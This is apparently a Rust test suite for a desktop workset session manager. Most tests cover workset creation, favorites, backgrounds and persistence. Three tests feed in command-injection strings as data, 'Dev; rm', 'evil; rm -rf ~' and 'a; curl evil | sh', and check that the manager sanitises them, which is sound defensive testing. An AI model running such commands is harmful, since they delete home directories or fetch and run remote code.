#[cfg(test)]
mod tests {
    use crate::session::{SessionFactory, SessionManager};
    use async_trait::async_trait;
    use serde_json::{Value, json};
    use std::collections::VecDeque;
    use std::path::PathBuf;
    use std::sync::{Arc, Mutex};
    use worksets_core::chooser::AppChooser;
    use worksets_core::desktop::{ActiveWorkspaceQuery, AppInfo, DesktopShell};
    use worksets_core::model::{
        BackgroundStyle, BoolOption, Collection, FavApp, Session, Workset, WorkspaceSlot,
    };
    use worksets_core::prompt::{
        ObjectCandidate, ObjectKind, ObjectSource, UserPrompt, WorksetEdit,
    };
    use worksets_core::repository::{SessionRepository, StoredObject};
    use worksets_core::workspace::Activation;
    use worksets_core::{Result, WorksetsError};
    use worksets_infrastructure::{JsonSessionRepository, WorksetsPaths};

    // Mock desktop shell for testing
    #[derive(Default)]
    struct ShellState {
        count: usize,
        active: usize,
        persistent: Vec<bool>,
        favorites: Vec<String>,
        running: Vec<String>,
        background: Option<(String, BackgroundStyle)>,
    }

    struct MockShell {
        state: Mutex<ShellState>,
    }

    impl MockShell {
        fn new(count: usize) -> Arc<Self> {
            Arc::new(Self {
                state: Mutex::new(ShellState {
                    count,
                    persistent: vec![false; count],
                    ..Default::default()
                }),
            })
        }

        fn with<R>(&self, f: impl FnOnce(&mut ShellState) -> R) -> R {
            f(&mut self.state.lock().unwrap())
        }
    }

    impl ActiveWorkspaceQuery for MockShell {
        fn active_workspace_index(&self) -> usize {
            self.with(|s| s.active)
        }

        fn workspace_app_ids(&self, _index: usize) -> Vec<String> {
            self.with(|s| s.running.clone())
        }
    }

    impl DesktopShell for MockShell {
        fn workspace_count(&self) -> usize {
            self.with(|s| s.count)
        }

        fn activate_workspace(&self, index: usize) {
            self.with(|s| s.active = index);
        }

        fn append_workspace(&self) -> usize {
            self.with(|s| {
                s.count += 1;
                s.persistent.push(false);
                s.count - 1
            })
        }

        fn set_workspace_persistent(&self, index: usize, persistent: bool) {
            self.with(|s| s.persistent[index] = persistent);
        }

        fn favorite_app_ids(&self) -> Vec<String> {
            self.with(|s| s.favorites.clone())
        }

        fn set_favorite_app_ids(&self, app_ids: &[String]) {
            self.with(|s| s.favorites = app_ids.to_vec());
        }

        fn app_info(&self, _app_id: &str) -> Option<AppInfo> {
            None
        }

        fn background(&self) -> String {
            String::new()
        }

        fn set_background(&self, path: &str, style: BackgroundStyle) {
            self.with(|s| s.background = Some((path.to_string(), style)));
        }
    }

    // Mock prompt answering from queues
    #[derive(Default)]
    struct MockPrompt {
        names: Mutex<VecDeque<Option<String>>>,
        edits: Mutex<VecDeque<Option<WorksetEdit>>>,
        choice: Mutex<Option<String>>,
        feedback: Mutex<Vec<String>>,
    }

    impl MockPrompt {
        fn new() -> Arc<Self> {
            Arc::new(Self::default())
        }

        fn last_feedback(&self) -> String {
            self.feedback.lock().unwrap().last().cloned().unwrap_or_default()
        }
    }

    #[async_trait]
    impl UserPrompt for MockPrompt {
        async fn propose_new_workset_name(&self, _suggestion: &str) -> Option<String> {
            self.names.lock().unwrap().pop_front().flatten()
        }

        async fn edit_workset(&self, _current: WorksetEdit) -> Option<WorksetEdit> {
            self.edits.lock().unwrap().pop_front().flatten()
        }

        async fn choose_object(&self, candidates: Vec<ObjectCandidate>) -> Option<ObjectCandidate> {
            let wanted = self.choice.lock().unwrap().clone()?;
            candidates
                .into_iter()
                .find(|c| c.name == wanted && matches!(c.source, ObjectSource::File(_)))
        }

        fn show_feedback(&self, message: &str) {
            self.feedback.lock().unwrap().push(message.to_string());
        }
    }

    // Mock SessionRepository keeping everything in memory
    #[derive(Default)]
    struct MockSessionRepository {
        stored: Mutex<Option<Value>>,
        unreadable: bool,
        saves: Mutex<usize>,
        raw_copies: Mutex<usize>,
        backups: Mutex<Vec<Value>>,
        worksets: Mutex<Vec<(String, Workset)>>,
        collections: Mutex<Vec<Collection>>,
        objects: Mutex<Vec<(StoredObject, Value)>>,
    }

    impl MockSessionRepository {
        fn new() -> Arc<Self> {
            Arc::new(Self::default())
        }

        fn with_session(value: Value) -> Arc<Self> {
            Arc::new(Self {
                stored: Mutex::new(Some(value)),
                ..Default::default()
            })
        }

        fn saves(&self) -> usize {
            *self.saves.lock().unwrap()
        }

        fn add_object(&self, kind: ObjectKind, name: &str, value: Value) {
            let object = StoredObject {
                kind,
                name: name.to_string(),
                path: PathBuf::from(format!("/store/{name}.json")),
            };
            self.objects.lock().unwrap().push((object, value));
        }
    }

    #[async_trait]
    impl SessionRepository for MockSessionRepository {
        async fn load_session(&self) -> Result<Option<Session>> {
            if self.unreadable {
                return Err(WorksetsError::serialization("JSON", "expected value"));
            }
            Ok(self.stored.lock().unwrap().as_ref().and_then(Session::from_value))
        }

        async fn load_latest_backup(&self) -> Result<Option<Session>> {
            Ok(self.backups.lock().unwrap().last().and_then(Session::from_value))
        }

        async fn save_session(&self, session: &Session) -> Result<()> {
            *self.stored.lock().unwrap() = Some(session.to_value()?);
            *self.saves.lock().unwrap() += 1;
            Ok(())
        }

        async fn backup_session(&self, session: &Session) -> Result<String> {
            let mut backups = self.backups.lock().unwrap();
            backups.push(session.to_value()?);
            Ok(format!("session-backup-{}.json", backups.len()))
        }

        async fn backup_session_file(&self) -> Result<Option<String>> {
            *self.raw_copies.lock().unwrap() += 1;
            Ok(Some("session-backup-raw.json".to_string()))
        }

        async fn save_workset(&self, workset: &Workset, backup: bool) -> Result<String> {
            let filename = if backup {
                format!("workset-{}-stamp.json", workset.workset_name)
            } else {
                format!("workset-{}.json", workset.workset_name)
            };
            self.worksets
                .lock()
                .unwrap()
                .push((filename.clone(), workset.clone()));
            Ok(filename)
        }

        async fn save_collection(&self, collection: &Collection) -> Result<String> {
            self.collections.lock().unwrap().push(collection.clone());
            Ok(format!("collection-{}.json", collection.collection_name))
        }

        async fn list_stored_objects(&self) -> Result<Vec<StoredObject>> {
            Ok(self
                .objects
                .lock()
                .unwrap()
                .iter()
                .map(|(object, _)| object.clone())
                .collect())
        }

        async fn read_stored_object(&self, object: &StoredObject) -> Result<Value> {
            self.objects
                .lock()
                .unwrap()
                .iter()
                .find(|(stored, _)| stored.path == object.path)
                .map(|(_, value)| value.clone())
                .ok_or_else(|| WorksetsError::not_found("file", object.path.display().to_string()))
        }
    }

    struct MockChooser {
        output: Option<String>,
    }

    #[async_trait]
    impl AppChooser for MockChooser {
        async fn choose_app(&self, _workset_name: &str) -> Result<Option<String>> {
            Ok(self.output.clone())
        }
    }

    fn manager(
        repository: Arc<MockSessionRepository>,
        shell: Arc<MockShell>,
        prompt: Arc<MockPrompt>,
        chooser: Option<Arc<dyn AppChooser>>,
    ) -> SessionManager {
        SessionManager::new(repository, shell, prompt, chooser, SessionFactory::default())
    }

    fn work_and_play() -> Value {
        json!({
            "SessionName": "Default",
            "Default": "Work",
            "Worksets": [
                { "WorksetName": "Work", "FavApps": [{ "name": "code.desktop" }] },
                { "WorksetName": "Play", "FavApps": [{ "name": "steam.desktop" }] }
            ],
            "workspaceMaps": {
                "Workspace0": { "defaultWorkset": "Work", "currentWorkset": "" }
            }
        })
    }

    fn slot(index: usize) -> WorkspaceSlot {
        WorkspaceSlot::new(index).unwrap()
    }

    async fn started(
        value: Value,
        workspaces: usize,
    ) -> (SessionManager, Arc<MockSessionRepository>, Arc<MockShell>, Arc<MockPrompt>) {
        let repository = MockSessionRepository::with_session(value);
        let shell = MockShell::new(workspaces);
        let prompt = MockPrompt::new();
        let manager = manager(repository.clone(), shell.clone(), prompt.clone(), None);
        manager.start().await.unwrap();
        (manager, repository, shell, prompt)
    }

    #[tokio::test]
    async fn test_start_without_stored_session_seeds_from_desktop() {
        let repository = MockSessionRepository::new();
        let shell = MockShell::new(1);
        shell.with(|s| s.favorites = vec!["firefox.desktop".into()]);
        let manager = manager(repository.clone(), shell.clone(), MockPrompt::new(), None);

        manager.start().await.unwrap();

        let session = manager.session_snapshot().await.unwrap();
        assert_eq!(session.workset_names(), vec!["Primary"]);
        assert_eq!(session.worksets[0].favorite_ids(), vec!["firefox.desktop"]);
        assert_eq!(manager.active_workset_name().await.as_deref(), Some("Primary"));
        assert_eq!(repository.saves(), 1);
    }

    #[tokio::test]
    async fn test_unreadable_session_is_copied_aside_and_replaced() {
        let repository = Arc::new(MockSessionRepository {
            unreadable: true,
            ..Default::default()
        });
        let manager = manager(repository.clone(), MockShell::new(1), MockPrompt::new(), None);

        manager.start().await.unwrap();

        assert_eq!(*repository.raw_copies.lock().unwrap(), 1);
        let session = manager.session_snapshot().await.unwrap();
        assert_eq!(session.workset_names(), vec!["Primary"]);
    }

    #[tokio::test]
    async fn test_start_shows_default_of_active_workspace() {
        let (manager, _repo, shell, _prompt) = started(work_and_play(), 1).await;

        assert_eq!(manager.active_workset_name().await.as_deref(), Some("Work"));
        assert_eq!(shell.favorite_app_ids(), vec!["code.desktop"]);
    }

    #[tokio::test]
    async fn test_new_workset_prompts_cleans_and_refuses_duplicates() {
        let (manager, _repo, _shell, prompt) = started(work_and_play(), 1).await;
        prompt
            .names
            .lock()
            .unwrap()
            .extend([Some("Dev; rm".to_string()), None]);

        let created = manager.new_workset(None, None, false).await.unwrap();
        assert_eq!(created.as_deref(), Some("Dev rm"));

        let cancelled = manager.new_workset(None, None, false).await.unwrap();
        assert!(cancelled.is_none());

        let duplicate = manager.new_workset(Some("Work"), None, false).await.unwrap();
        assert!(duplicate.is_none());
        assert!(prompt.last_feedback().contains("already exists"));

        let session = manager.session_snapshot().await.unwrap();
        assert_eq!(session.workset_names(), vec!["Work", "Play", "Dev rm"]);
    }

    #[tokio::test]
    async fn test_new_workset_from_environment_merges_running_apps() {
        let (manager, _repo, shell, _prompt) = started(work_and_play(), 1).await;
        shell.with(|s| s.running = vec!["term.desktop".into(), "code.desktop".into()]);

        manager.new_workset(Some("Dev"), None, true).await.unwrap();

        let session = manager.session_snapshot().await.unwrap();
        assert_eq!(
            session.workset("Dev").unwrap().favorite_ids(),
            vec!["code.desktop", "term.desktop"]
        );
    }

    #[tokio::test]
    async fn test_new_workset_on_target_workspace_becomes_its_default() {
        let repository = MockSessionRepository::with_session(work_and_play());
        let shell = MockShell::new(2);
        shell.with(|s| s.active = 1);
        let manager = manager(repository, shell.clone(), MockPrompt::new(), None);
        manager.start().await.unwrap();
        assert!(manager.active_workset_name().await.is_none());

        manager.new_workset(Some("Side"), Some(1), false).await.unwrap();

        let session = manager.session_snapshot().await.unwrap();
        assert_eq!(session.workspace_maps.get(slot(1)).default_workset, "Side");
        assert_eq!(manager.active_workset_name().await.as_deref(), Some("Side"));
    }

    #[tokio::test]
    async fn test_edit_workset_renames_and_moves_defaults() {
        let (manager, _repo, _shell, prompt) = started(work_and_play(), 1).await;
        prompt.edits.lock().unwrap().push_back(Some(WorksetEdit {
            name: "Office".into(),
            default_slots: vec![slot(2)],
        }));

        assert!(manager.edit_workset("Work").await.unwrap());

        let session = manager.session_snapshot().await.unwrap();
        assert_eq!(session.default, "Office");
        assert_eq!(session.workspace_maps.get(slot(0)).default_workset, "");
        assert_eq!(session.workspace_maps.get(slot(0)).current_workset, "Office");
        assert_eq!(session.workspace_maps.get(slot(2)).default_workset, "Office");
        assert_eq!(prompt.last_feedback(), "Changes saved.");
    }

    #[tokio::test]
    async fn test_cancelled_or_colliding_edit_changes_nothing() {
        let (manager, _repo, _shell, prompt) = started(work_and_play(), 1).await;
        let before = manager.session_snapshot().await.unwrap();
        prompt.edits.lock().unwrap().extend([
            None,
            Some(WorksetEdit {
                name: "Play".into(),
                default_slots: vec![],
            }),
        ]);

        assert!(!manager.edit_workset("Work").await.unwrap());
        assert!(!manager.edit_workset("Work").await.unwrap());
        assert!(!manager.edit_workset("Missing").await.unwrap());

        assert_eq!(manager.session_snapshot().await.unwrap(), before);
    }

    #[tokio::test]
    async fn test_delete_backs_up_first_and_keeps_the_last_workset() {
        let (manager, repository, _shell, prompt) = started(work_and_play(), 1).await;

        let backup = manager.delete_workset("Work").await.unwrap();
        assert_eq!(backup.as_deref(), Some("workset-Work-stamp.json"));
        assert_eq!(repository.worksets.lock().unwrap()[0].1.workset_name, "Work");

        let session = manager.session_snapshot().await.unwrap();
        assert_eq!(session.workset_names(), vec!["Play"]);
        assert_eq!(session.default, "Play");
        assert_eq!(session.workspace_maps.get(slot(0)).default_workset, "");
        assert!(manager.active_workset_name().await.is_none());

        assert!(manager.delete_workset("Play").await.unwrap().is_none());
        assert!(prompt.last_feedback().contains("cannot be deleted"));
    }

    #[tokio::test]
    async fn test_display_in_new_workspace_on_two_workspace_desktop() {
        let (manager, _repo, shell, _prompt) = started(work_and_play(), 2).await;

        let activation = manager.display_workset("Play", true).await.unwrap();

        assert_eq!(activation, Some(Activation::Loaded(2)));
        assert_eq!(shell.active_workspace_index(), 2);
        let session = manager.session_snapshot().await.unwrap();
        let play = session.workset("Play").unwrap();
        assert!(play.active);
        assert_eq!(play.active_workspace_index, Some(2));
        assert_eq!(shell.favorite_app_ids(), vec!["steam.desktop"]);

        let again = manager.display_workset("Work", false).await.unwrap();
        assert_eq!(again, Some(Activation::SwitchedTo(0)));
        assert_eq!(shell.active_workspace_index(), 0);
    }

    #[tokio::test]
    async fn test_favorites_change_is_recorded_but_echoes_are_not() {
        let (manager, _repo, shell, _prompt) = started(work_and_play(), 1).await;

        assert!(!manager.on_favorites_changed().await.unwrap());

        shell.with(|s| s.favorites = vec!["code.desktop".into(), "term.desktop".into()]);
        assert!(manager.on_favorites_changed().await.unwrap());

        let session = manager.session_snapshot().await.unwrap();
        assert_eq!(
            session.workset("Work").unwrap().favorite_ids(),
            vec!["code.desktop", "term.desktop"]
        );
        assert_eq!(session.workspace_maps.get(slot(0)).current_workset, "Work");
        assert!(!session.workset("Play").unwrap().active);
    }

    #[tokio::test]
    async fn test_favorite_edits_reapply_the_shown_workset() {
        let (manager, _repo, shell, prompt) = started(work_and_play(), 1).await;

        assert!(manager.add_favorite("Work", FavApp::from_id("term.desktop")).await.unwrap());
        assert_eq!(shell.favorite_app_ids(), vec!["code.desktop", "term.desktop"]);

        assert!(!manager.add_favorite("Work", FavApp::from_id("term.desktop")).await.unwrap());
        assert!(prompt.last_feedback().contains("already a favorite"));

        assert!(manager.remove_favorite("Work", "code.desktop").await.unwrap());
        assert_eq!(shell.favorite_app_ids(), vec!["term.desktop"]);
        assert!(!manager.remove_favorite("Work", "code.desktop").await.unwrap());

        assert!(manager.add_favorite("Play", FavApp::from_id("chess.desktop")).await.unwrap());
        assert_eq!(shell.favorite_app_ids(), vec!["term.desktop"]);
    }

    #[tokio::test]
    async fn test_favorite_from_chooser_is_validated() {
        let repository = MockSessionRepository::with_session(work_and_play());
        let chooser: Arc<dyn AppChooser> = Arc::new(MockChooser {
            output: Some(
                "\n{\"name\":\"evil.desktop\",\"displayName\":\"Evil\",\"exec\":\"evil; rm -rf ~\"}\n"
                    .into(),
            ),
        });
        let manager = manager(repository, MockShell::new(1), MockPrompt::new(), Some(chooser));
        manager.start().await.unwrap();

        let app = manager.add_favorite_from_chooser("Work").await.unwrap().unwrap();

        assert_eq!(app.name, "evil.desktop");
        assert_eq!(app.exec, "");
        let session = manager.session_snapshot().await.unwrap();
        assert!(session.workset("Work").unwrap().has_favorite("evil.desktop"));
    }

    #[tokio::test]
    async fn test_favorite_from_chooser_without_helper() {
        let (manager, _repo, _shell, prompt) = started(work_and_play(), 1).await;

        assert!(manager.add_favorite_from_chooser("Work").await.unwrap().is_none());
        assert!(prompt.last_feedback().contains("No application chooser"));
    }

    #[tokio::test]
    async fn test_background_changes_are_validated_and_applied() {
        let (manager, _repo, shell, prompt) = started(work_and_play(), 1).await;
        let image = tempfile::NamedTempFile::new().unwrap();
        let image_path = image.path().to_string_lossy().into_owned();

        assert!(
            !manager
                .set_workset_background("Work", "/no/such/image.png", false)
                .await
                .unwrap()
        );
        assert!(prompt.last_feedback().contains("cannot be used"));

        assert!(
            manager
                .set_workset_background("Work", &format!("file://{image_path}"), false)
                .await
                .unwrap()
        );
        assert!(
            manager
                .set_workset_background_style("Work", BackgroundStyle::Spanned, false)
                .await
                .unwrap()
        );
        assert_eq!(
            shell.with(|s| s.background.clone()),
            Some((image_path.clone(), BackgroundStyle::Spanned))
        );

        manager.set_option(BoolOption::DisableWallpaperManagement, true).await.unwrap();
        shell.with(|s| s.background = None);
        manager
            .set_workset_background_style("Work", BackgroundStyle::Zoom, false)
            .await
            .unwrap();
        assert_eq!(shell.with(|s| s.background.clone()), None);
    }

    #[tokio::test]
    async fn test_options_are_persisted() {
        let (manager, repository, _shell, _prompt) = started(work_and_play(), 1).await;

        manager.set_option(BoolOption::ShowHelpers, false).await.unwrap();
        manager.set_cli_switch("worksets --toggle").await.unwrap();

        let stored = repository.stored.lock().unwrap().clone().unwrap();
        assert_eq!(stored["Options"]["ShowHelpers"], json!(false));
        assert_eq!(stored["Options"]["CliSwitch"], json!("worksets --toggle"));
    }

    #[tokio::test]
    async fn test_load_object_validates_and_skips_taken_names() {
        let (manager, repository, _shell, prompt) = started(work_and_play(), 1).await;
        repository.add_object(
            ObjectKind::Workset,
            "Imported",
            json!({
                "WorksetName": "Imported",
                "FavApps": [{ "name": "a.desktop", "exec": "a; curl evil | sh" }],
                "Extra": true
            }),
        );
        repository.add_object(
            ObjectKind::Collection,
            "Bundle",
            json!({
                "CollectionName": "Bundle",
                "Worksets": [{ "WorksetName": "Work" }, { "WorksetName": "Music" }]
            }),
        );

        let candidates = manager.show_object_manager().await.unwrap();
        assert_eq!(candidates.len(), 4);
        assert_eq!(candidates[0].source, ObjectSource::Session);

        *prompt.choice.lock().unwrap() = Some("Imported".into());
        assert_eq!(manager.load_object().await.unwrap(), vec!["Imported"]);

        *prompt.choice.lock().unwrap() = Some("Bundle".into());
        assert_eq!(manager.load_object().await.unwrap(), vec!["Music"]);

        let session = manager.session_snapshot().await.unwrap();
        assert_eq!(session.workset_names(), vec!["Work", "Play", "Imported", "Music"]);
        assert_eq!(session.workset("Imported").unwrap().fav_apps[0].exec, "");

        *prompt.choice.lock().unwrap() = None;
        assert!(manager.load_object().await.unwrap().is_empty());
    }

    #[tokio::test]
    async fn test_exports_go_through_the_repository() {
        let (manager, repository, _shell, prompt) = started(work_and_play(), 1).await;

        let filename = manager.save_workset("Play", false).await.unwrap();
        assert_eq!(filename.as_deref(), Some("workset-Play.json"));
        assert!(prompt.last_feedback().contains("workset-Play.json"));

        let collection = manager.save_collection("All/Mine").await.unwrap();
        assert_eq!(collection.as_deref(), Some("collection-AllMine.json"));
        assert_eq!(repository.collections.lock().unwrap()[0].worksets.len(), 2);

        let backup = manager.save_session(true).await.unwrap();
        assert_eq!(backup.as_deref(), Some("session-backup-1.json"));
    }

    #[tokio::test]
    async fn test_unchanged_session_is_not_rewritten() {
        let (manager, repository, _shell, _prompt) = started(work_and_play(), 1).await;
        let saves = repository.saves();

        manager.save_session(false).await.unwrap();
        manager.on_workspace_switched().await.unwrap();
        manager.set_default_workset("Work").await.unwrap();
        assert_eq!(repository.saves(), saves);

        manager.set_default_workset("Play").await.unwrap();
        assert_eq!(repository.saves(), saves + 1);
    }

    #[tokio::test]
    async fn test_switching_workspaces_loads_their_defaults() {
        let (manager, _repo, shell, _prompt) = started(work_and_play(), 2).await;
        manager
            .set_workset_default_slots("Play", &[slot(1)])
            .await
            .unwrap();

        shell.activate_workspace(1);
        manager.on_workspace_switched().await.unwrap();
        assert_eq!(manager.active_workset_name().await.as_deref(), Some("Play"));
        assert_eq!(shell.favorite_app_ids(), vec!["steam.desktop"]);

        shell.activate_workspace(0);
        manager.on_workspace_switched().await.unwrap();
        assert_eq!(shell.favorite_app_ids(), vec!["code.desktop"]);
    }

    #[tokio::test]
    async fn test_restore_and_new_session() {
        let (manager, _repo, _shell, prompt) = started(work_and_play(), 1).await;

        assert!(!manager.load_session(true).await.unwrap());
        assert!(prompt.last_feedback().contains("No session backup"));

        manager.new_session(false, true).await.unwrap();
        let fresh = manager.session_snapshot().await.unwrap();
        assert_eq!(fresh.workset_names(), vec!["New"]);

        assert!(manager.load_session(true).await.unwrap());
        let restored = manager.session_snapshot().await.unwrap();
        assert_eq!(restored.workset_names(), vec!["Work", "Play"]);
    }

    #[tokio::test]
    async fn test_destroy_resets_desktop_and_detaches() {
        let (manager, repository, shell, _prompt) = started(work_and_play(), 2).await;
        manager.display_workset("Play", true).await.unwrap();

        manager.destroy().await.unwrap();

        assert_eq!(shell.active_workspace_index(), 0);
        assert_eq!(shell.with(|s| s.persistent.clone()), vec![true, false, false]);
        assert!(manager.session_snapshot().await.is_none());
        assert!(repository.stored.lock().unwrap().is_some());

        assert!(manager.display_workset("Work", false).await.unwrap().is_none());
        assert!(manager.save_session(false).await.unwrap().is_none());
    }

    #[tokio::test]
    async fn test_unknown_worksets_are_ignored() {
        let (manager, repository, _shell, _prompt) = started(work_and_play(), 1).await;
        let before = manager.session_snapshot().await.unwrap();
        let saves = repository.saves();

        assert!(manager.display_workset("Ghost", false).await.unwrap().is_none());
        assert!(!manager.close_workset("Ghost").await.unwrap());
        assert!(manager.delete_workset("Ghost").await.unwrap().is_none());
        assert!(manager.rename_workset("Ghost", "Boo").await.unwrap().is_none());
        assert!(manager.save_workset("Ghost", false).await.unwrap().is_none());
        assert!(!manager.add_favorite("Ghost", FavApp::from_id("a")).await.unwrap());
        manager.set_default_workset("Ghost").await.unwrap();
        manager.set_workset_default_slots("Ghost", &[slot(3)]).await.unwrap();

        assert_eq!(manager.session_snapshot().await.unwrap(), before);
        assert_eq!(repository.saves(), saves);
    }

    #[tokio::test]
    async fn test_session_survives_restart_on_disk() {
        let dir = tempfile::TempDir::new().unwrap();
        let paths = WorksetsPaths::new(dir.path());
        let shell = MockShell::new(1);

        let first = SessionManager::new(
            Arc::new(JsonSessionRepository::new(&paths)),
            shell.clone(),
            MockPrompt::new(),
            None,
            SessionFactory::default(),
        );
        first.start().await.unwrap();
        first.new_workset(Some("Dev"), None, false).await.unwrap();
        first.display_workset("Dev", false).await.unwrap();
        first.destroy().await.unwrap();

        let second = SessionManager::new(
            Arc::new(JsonSessionRepository::new(&paths)),
            shell,
            MockPrompt::new(),
            None,
            SessionFactory::default(),
        );
        second.start().await.unwrap();

        let session = second.session_snapshot().await.unwrap();
        assert_eq!(session.workset_names(), vec!["Primary", "Dev"]);
        assert!(!session.workset("Dev").unwrap().active);
        assert_eq!(second.active_workset_name().await.as_deref(), Some("Primary"));
    }
}
